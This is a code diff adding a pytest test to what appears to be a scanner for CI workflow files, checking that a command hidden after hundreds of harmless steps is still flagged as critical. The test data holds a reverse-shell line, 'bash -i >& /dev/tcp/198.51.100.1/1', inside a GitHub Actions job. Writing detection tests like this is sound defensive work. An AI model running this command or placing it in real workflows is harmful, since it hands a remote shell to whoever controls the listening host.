@@ -53,6 +53,16 @@ def test_what_runs_by_itself(path: str, text: str, severity: str) -> None:
     assert worst(path, text) == (Severity[severity.upper()], "automatic-command")
 
 
+@pytest.mark.parametrize("before", ["    - run: 'true'\n" * 600, "    - run: |\n" + "        true\n" * 900])
+def test_nothing_before_a_command_hides_it(before: str) -> None:
+    shell = "bash -i >& /dev/tcp/198.51.100.1/1"
+    last = f"        {shell}\n" if before.endswith("  true\n") else f"    - run: {shell}\n"
+    text = f"jobs:\n  x:\n    steps:\n{before}{last}"
+    assert worst(".github/workflows/x.yml", text) == (Severity.CRITICAL, "automatic-command")
+    evidence = scan(SourceCode, {".github/workflows/x.yml": text.encode()})
+    assert len(evidence.findings) <= 501
+
+
 @pytest.mark.parametrize(
     ("path", "text"),
     [
